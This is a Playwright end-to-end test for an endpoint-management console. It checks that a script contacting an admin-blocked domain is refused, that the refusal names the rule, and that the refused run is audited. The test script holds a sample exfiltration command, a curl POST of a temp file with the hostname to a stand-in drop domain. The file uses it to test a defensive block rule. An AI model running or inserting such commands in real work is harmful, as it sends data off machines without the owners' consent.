/**
 * Journey 7 — blocked destination: an admin adds a blocked domain; a saved script that contacts
 * it is refused when the technician runs it, and the refusal names the rule.
 */
import { expect, test } from '../support/fixtures';
import { scriptLogs } from '../support/lines';

const DOMAIN = 'exfil.example.invalid';
const RULE_REASON = 'Known data exfiltration drop site';

test('blocked destination: a script contacting a newly blocked domain is refused, naming the rule', async ({
  openConsole,
  system,
}, testInfo) => {
  const admin = await openConsole('admin');
  await admin.ensureSignedIn('platformAdmin');
  await admin.goTo('Admin');
  await admin.page.getByRole('tab', { name: 'Blocked destinations' }).click();
  const add = await admin.see(admin.page.getByRole('form', { name: 'Block a destination' }), 'the form to block a destination');
  await add.getByLabel('Kind').selectOption('domain');
  await add.getByLabel('Destination').fill(DOMAIN);
  await add.getByLabel('Reason').fill(RULE_REASON);
  await add.getByRole('button', { name: 'Add rule' }).click();
  const ruleRow = admin.page.getByRole('row').filter({ hasText: DOMAIN });
  await admin.see(ruleRow, 'the new rule in the list');
  await expect(ruleRow).toContainText(RULE_REASON);
  await admin.keepScreenshot(testInfo, 'blocked-destination-added');

  const technician = await openConsole('technician');
  await technician.ensureSignedIn('technician');
  await technician.goTo('Scripts');
  const page = technician.page;
  const scriptName = `Upload inventory ${Date.now().toString(36)}`;
  await page.getByRole('button', { name: 'New script' }).click();
  const editor = await technician.see(page.getByRole('region', { name: 'New script' }), 'the script editor');
  await editor.getByLabel('Name', { exact: true }).fill(scriptName);
  await editor.getByLabel('Shell').selectOption('bash');
  await editor
    .getByLabel('Script', { exact: true })
    .fill(`hostname > /tmp/inventory.txt\ncurl -s -X POST --data @/tmp/inventory.txt https://drop.${DOMAIN}/upload\n`);
  await editor.getByRole('button', { name: 'Save' }).click();
  await technician.see(page.getByRole('button', { name: scriptName }), 'the saved script in the library');

  await page.getByRole('button', { name: scriptName }).click();
  const saved = await technician.see(page.getByRole('region', { name: `Edit ${scriptName}` }), 'the saved script');
  const target = await technician.see(saved.getByRole('checkbox', { name: system.endpoint.hostname }), 'the endpoint to run the script on');
  await target.check();
  const from = new Date(Date.now() - 1000).toISOString();
  await saved.getByRole('button', { name: 'Run script' }).click();
  const prompt = page.getByRole('dialog', { name: 'Confirm it is you' });
  const refusal = saved.getByRole('region', { name: /Blocked by the security policy|Refused by the server/ });
  await technician.see(prompt.or(refusal), 'the step-up prompt or the refusal');
  if (await prompt.isVisible()) await technician.stepUp('technician');
  await technician.see(refusal, 'the refusal of the script run');
  await expect(refusal.getByLabel('Reason code blocked_destination')).toBeVisible();
  // The refusal names the rule: its domain and the reason the admin gave.
  await expect(refusal).toContainText(DOMAIN);
  await expect(refusal).toContainText(RULE_REASON);
  // The matched URL is highlighted, the rule's domain inside it more strongly (overlapping spans).
  await expect(
    refusal.getByLabel('Matched part of the command for blocked_destination').locator('mark').filter({ hasText: DOMAIN }).first(),
  ).toBeVisible();
  await technician.keepScreenshot(testInfo, 'script-refused-blocked-destination');

  const audited = await scriptLogs(system, { reasonCode: 'blocked_destination', from });
  expect(
    audited.map((e) => e.excerpt),
    'the refused run is in the audit',
  ).toContainEqual(expect.stringContaining(`drop.${DOMAIN}`));
});
